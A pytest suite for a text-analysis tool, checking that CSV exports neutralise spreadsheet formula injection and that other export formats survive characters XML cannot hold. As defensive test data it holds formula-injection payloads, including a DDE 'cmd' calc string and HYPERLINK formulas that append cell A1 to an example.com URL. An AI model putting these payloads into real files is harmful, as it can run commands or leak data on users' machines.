"""Safe cells: no CSV cell the tool writes starts like a spreadsheet formula (unless it is a
plain number), the quote added is the only change, and the xlsx export survives characters
that XML cannot hold."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from stance.output.cells import FORMULA_STARTS, UNDO_PATTERN, safe_cell, safe_cells, safe_column
from stance.output.export import (
    CSV_CELLS_COLUMN,
    CSV_CELLS_NOTE,
    CSV_CELLS_TABLE,
    UNDO_PANDAS,
    UNDO_R,
    export_files,
    xlsx_bytes,
)
from stance.output.write import csv_bytes

# The oracle, written out again rather than imported: what a spreadsheet evaluates, and what
# it reads as a plain number.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
# Characters XML 1.0 cannot hold, as the xlsx writer must drop them.
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def undo(cell: str) -> str:
    """The documented way back: drop a quote that stands before a formula character."""
    return re.sub(UNDO_PATTERN, r"\1", cell)


def unsafe(cell: str) -> bool:
    return cell.startswith(DANGEROUS) and not PLAIN_NUMBER.fullmatch(cell)


# Text rich in formula characters, quotes and digits, plus any other character.
FORMULA_TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from([*DANGEROUS, "'", "0", "1", "5", ".", "e", "E", " ", "(", "A", "美"]),
        st.characters(blacklist_categories=("Cs",)),
    ),
    max_size=12,
)


# -- the rule ----------------------------------------------------------------------------------


def test_the_oracle_and_the_module_agree_on_the_formula_characters():
    assert set(FORMULA_STARTS) == set(DANGEROUS)


@pytest.mark.parametrize("first", DANGEROUS)
def test_each_formula_start_gets_a_quote(first):
    text = first + 'HYPERLINK("http://example.com/"&A1,"点击")'
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x"&A1,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "=1+1美国宣布加征关税。",
     "\t=1+1", "\r=1+1", "-", "+", "-3,834", "-1.5 ", "-inf", "-nan", "+1e", "-١٢", "－5", "＝SUM(A1)"],
)  # fmt: skip
def test_formula_like_text_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-1.5", "+3", "-2e3", "+1E+05", ".5", "-.5", "-0", "1.", "-10."])
def test_plain_numbers_stay_numbers(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "text", ["美国宣布新的关税措施。", "a=b", "1-2", "'=1+1", "", "A+", "中国－美国", " -1"]
)
def test_safe_text_is_unchanged(text):
    assert safe_cell(text) == text


@given(FORMULA_TEXT)
def test_the_rule_is_idempotent_and_reversible(text):
    once = safe_cell(text)
    assert safe_cell(once) == once
    assert once in (text, "'" + text)
    assert not unsafe(once)
    if re.match("'[-=+@\t\r＝＋－＠]", text):
        assert once == text  # already safe; the one original the undo cannot tell apart
    else:
        assert undo(once) == text


# -- whole tables --------------------------------------------------------------------------------


def test_safe_cells_leaves_numbers_and_other_values():
    frame = pd.DataFrame(
        {
            "text": pd.Series(["=1+1", "美国", None, "-2"], dtype="str"),
            "mixed": pd.Series(["@SUM(1)", -3, ["=a"], None], dtype=object),
            "kind": pd.Series(["-x", "body", "-x", "+1"], dtype="category"),
            "score": [-1.5, 0.25, float("nan"), -2.0],
            "count": [-3, 0, 1, 2],
            "flag": [True, False, True, False],
            "=header": ["a", "b", "c", "d"],
        }
    )
    before = frame.copy()
    safe = safe_cells(frame)
    pd.testing.assert_frame_equal(frame, before)  # the input is not changed
    assert list(safe.columns) == ["text", "mixed", "kind", "score", "count", "flag", "'=header"]
    assert safe["text"].tolist()[:2] == ["'=1+1", "美国"] and pd.isna(safe["text"][2])
    assert safe["text"][3] == "-2"
    assert safe["mixed"].tolist() == ["'@SUM(1)", -3, ["=a"], None]
    assert safe["kind"].tolist() == ["'-x", "body", "'-x", "+1"]
    for name in ("score", "count", "flag"):
        assert safe[name].equals(frame[name]) and safe[name].dtype == frame[name].dtype
    assert csv_bytes(frame).decode().splitlines()[1:3] == [
        "'=1+1,'@SUM(1),'-x,-1.5,-3,True,a",
        "美国,-3,body,0.25,0,False,b",
    ]


def test_a_carriage_return_in_a_cell_keeps_its_row():
    # The csv module quotes a cell only for characters of the row terminator (\n here), so a
    # lone \r went out bare and split the row in every reader.
    frame = pd.DataFrame({"text": ["美国\r宣布", "x\r\ny", "\r=1", "中国"], "n": [1, 2, 3, -4]})
    data = csv_bytes(frame)
    assert data == 'text,n\n"美国\r宣布",1\n"x\r\ny",2\n"\'\r=1",3\n中国,-4\n'.encode()
    assert read_csv_cells_from_bytes(data) == [["text", "n"], ["美国\r宣布", "1"], ["x\r\ny", "2"], ["'\r=1", "3"], ["中国", "-4"]]  # fmt: skip


def test_safe_cells_returns_a_clean_frame_itself():
    frame = pd.DataFrame({"text": ["美国", "中国"], "score": [-1.0, 1.0]})
    assert safe_cells(frame) is frame


def test_safe_cells_handles_duplicate_column_names():
    frame = pd.DataFrame([["=a", "-b", 1]], columns=["text", "text", "n"])
    assert safe_cells(frame).values.tolist() == [["'=a", "'-b", 1]]


@given(st.lists(st.one_of(st.none(), FORMULA_TEXT), max_size=20), st.sampled_from(["str", "object"]))
def test_the_vectorised_column_agrees_with_the_rule(values, dtype):
    column = pd.Series(values, dtype=dtype)
    expected = [safe_cell(v) if isinstance(v, str) else None for v in values]
    got = [None if pd.isna(v) else v for v in safe_column(column).tolist()]
    assert got == expected


@given(
    st.lists(st.tuples(FORMULA_TEXT, FORMULA_TEXT, st.integers(-10**6, 10**6), st.floats(-1e6, 1e6)), max_size=15),
    FORMULA_TEXT,
)  # fmt: skip
def test_no_csv_cell_starts_like_a_formula(rows, header):
    columns = ["source", "text", "count", header]
    frame = pd.DataFrame(rows, columns=columns)
    parsed = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")))
    assert len(parsed) == len(rows) + 1
    originals = [columns, *[[a, b, str(n), ""] for a, b, n, _ in rows]]
    for got_row, original_row in zip(parsed, originals, strict=True):
        for position, cell in enumerate(got_row):
            assert not unsafe(cell), cell
            if position in (2, 3) and got_row is not parsed[0]:
                assert PLAIN_NUMBER.fullmatch(cell)  # numeric columns: numbers, untouched
                continue
            original = original_row[position]
            if re.match("'[-=+@\t\r＝＋－＠]", original):
                assert cell == original
            else:
                assert undo(cell) == original


# -- the data dictionary documents the rule -------------------------------------------------------


def test_data_dictionary_explains_the_rule_and_its_undo_works():
    tables = {"keyness": pd.DataFrame({"source": ["=B"], "term": ["稀土"]})}
    files = export_files(tables)
    rows = list(csv.reader(io.StringIO(files["data_dictionary.csv"].decode("utf-8"), newline="")))
    assert rows[-1] == [CSV_CELLS_TABLE, CSV_CELLS_COLUMN, CSV_CELLS_NOTE]
    assert rows[0] == ["table", "column", "description"]
    assert [row[:2] for row in rows[1:-1]] == [["keyness", "source"], ["keyness", "term"]]
    markdown = files["data_dictionary.md"].decode("utf-8")
    assert "## Text cells in the CSV files" in markdown
    assert f"`{UNDO_PANDAS}`" in markdown and f"`{UNDO_R}`" in markdown
    for sign in ("= + - @", "＝ ＋ － ＠", "tab", "carriage return", "-1.5"):
        assert sign in CSV_CELLS_NOTE

    # The pandas line of the note, run as written, gives back the original text.
    originals = ["=1+1", "-2+3美国", "+cmd", "@SUM(1)", "\t=x", "＝1", "-1.5", "美国", "'quoted"]
    read_back = pd.read_csv(io.BytesIO(csv_bytes(pd.DataFrame({"text": originals}))), dtype=str)
    assert read_back["text"].tolist() != originals
    assert eval(UNDO_PANDAS, {"df": read_back, "col": "text"}).tolist() == originals
    # The R line uses the same expression (R reads "\\1" as \1 and "\t" as a tab).
    r_pattern = UNDO_PATTERN.replace("\t", "\\t").replace("\r", "\\r")
    expected_r = 'sub("' + r_pattern + '", "\\\\1", x)'
    assert expected_r == UNDO_R


# -- end to end: a hostile corpus through `stance report` -------------------------------------


INJECTED = {
    "a.txt": ('=HYPERLINK("http://example.com/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", '=HYPERLINK("http://example.com")'),
    "b.txt": ("-1+1", "@SUM(1)", "-2+3", "+http://example.com"),
    "c.txt": ("＝1+1", "-乙报", "=label", "@url"),
}  # fmt: skip
ARTICLES = {
    "a.txt": "=1+1美国宣布对中国商品加征新的关税。\n+SUM(A1)中国商务部表示坚决反对。\n-2+3 据报道，稀土出口下降约七成。\n",
    "b.txt": "@SUM(A1) 中国表示将采取反制措施。\n-5% 出口下降5%。\n美国官员称关税有效。\n",
    "c.txt": '=HYPERLINK("http://x") The US raised tariffs on Chinese steel.\n-1.5 China said the move hurts trade.\n＝1+1 美国称中国补贴过多。\n',
}


@pytest.fixture
def hostile_corpus(tmp_path: Path) -> Path:
    folder = tmp_path / "corpus"
    folder.mkdir()
    with (folder / "corpus.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["file", "article_id", "source", "label", "url"])
        for name, (article_id, source, label, url) in INJECTED.items():
            writer.writerow([name, article_id, source, label, url])
    for name, text in ARTICLES.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def read_csv_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_report_csvs_have_no_formula_cells(run_cli, hostile_corpus, tmp_path):
    out = tmp_path / "out"
    code, _, stderr = run_cli("report", hostile_corpus, "--out", out, "--quiet")
    assert code == 0, stderr
    csv_files = sorted(out.glob("*.csv"))
    assert {"articles.csv", "sentences.csv", "stance.csv", "data_dictionary.csv"} <= {
        p.name for p in csv_files
    }
    cells = 0
    for path in csv_files:
        for row in read_csv_cells(path):
            for cell in row:
                cells += 1
                assert not unsafe(cell), f"{path.name}: {cell!r}"
    assert cells > 1000

    # The hostile values are there, quoted, and the documented undo gives them back.
    articles = read_csv_cells(out / "articles.csv")
    header = articles[0]
    by_id = {undo(row[header.index("article_id")]): row for row in articles[1:]}
    assert sorted(by_id) == sorted(values[0] for values in INJECTED.values())
    for article_id, source, label, url in INJECTED.values():
        row = by_id[article_id]
        for column, value in (("article_id", article_id), ("source", source), ("label", label), ("url", url)):
            assert row[header.index(column)] == "'" + value
    sentences = read_csv_cells(out / "sentences.csv")
    texts = [row[sentences[0].index("text")] for row in sentences[1:]]
    assert "'=1+1美国宣布对中国商品加征新的关税。" in texts
    assert "'-1.5 China said the move hurts trade." in texts
    assert "'＝1+1 美国称中国补贴过多。" in texts
    assert "美国官员称关税有效。" in texts


# -- xlsx and the other exports with characters XML cannot hold ----------------------------------

HOSTILE_TEXT = "美国\uffff宣布\ufffe新的\x01关税\x1f措施\x0b。"


def test_every_export_survives_characters_xml_cannot_hold():
    # openpyxl is a core dependency (pyproject), so the xlsx part is never skipped.
    from openpyxl import load_workbook

    frame = pd.DataFrame(
        {"text": [HOSTILE_TEXT, "=1+1"], "lone": pd.Series(["a\ud800b", None], dtype=object), "n": [1, -2]}
    )
    sheet = load_workbook(io.BytesIO(xlsx_bytes({"sentences": frame})))["sentences"]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["text", "lone", "n"],
        ["美国宣布新的关税措施。", "ab", 1],
        ["=1+1", None, -2],
    ]
    assert sheet["A3"].data_type == "s"  # text in xlsx, never a formula

    # JSON, Parquet, SQLite and CSV hold U+FFFF, U+FFFE and C0 controls exactly.
    plain = {"sentences": frame.drop(columns="lone")}
    files = export_files(plain, ("json", "parquet", "sqlite"))
    assert json.loads(files["sentences.json"])[0]["text"] == HOSTILE_TEXT
    import pyarrow.parquet as pq

    assert pq.read_table(io.BytesIO(files["sentences.parquet"])).column("text").to_pylist()[0] == HOSTILE_TEXT
    with sqlite3.connect(":memory:") as connection:
        connection.deserialize(files["tables.sqlite"])
        assert connection.execute("SELECT text FROM sentences ORDER BY rowid").fetchall() == [
            (HOSTILE_TEXT,),
            ("=1+1",),
        ]
    assert read_csv_cells_from_bytes(files["sentences.csv"])[1:] == [[HOSTILE_TEXT, "1"], ["'=1+1", "-2"]]


def read_csv_cells_from_bytes(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_report_with_uffff_exports_every_format(run_cli, tmp_path):
    from openpyxl import load_workbook

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text(
        "美国宣布新的关税\uffff措施。\n中国\ufffe表示坚决反对。\n", encoding="utf-8"
    )
    out = tmp_path / "out"
    code, _, stderr = run_cli(
        "report", corpus, "--out", out, "--export", "xlsx,json,parquet,sqlite", "--quiet"
    )
    assert code == 0, stderr
    assert "Traceback" not in stderr
    header, *rows = read_csv_cells(out / "sentences.csv")
    text = header.index("text")
    csv_texts = [row[text] for row in rows]
    sheet = load_workbook(out / "tables.xlsx")["sentences"]
    assert [c.value for c in sheet[1]] == header
    xlsx_texts = [row[text].value for row in sheet.iter_rows(min_row=2)]
    assert xlsx_texts == [NOT_XML.sub("", text) for text in csv_texts]
    assert "美国宣布新的关税措施。" in xlsx_texts
    json_texts = [record["text"] for record in json.loads((out / "sentences.json").read_text("utf-8"))]
    assert json_texts == csv_texts
    with sqlite3.connect(out / "tables.sqlite") as connection:
        assert [t for (t,) in connection.execute("SELECT text FROM sentences ORDER BY rowid")] == csv_texts
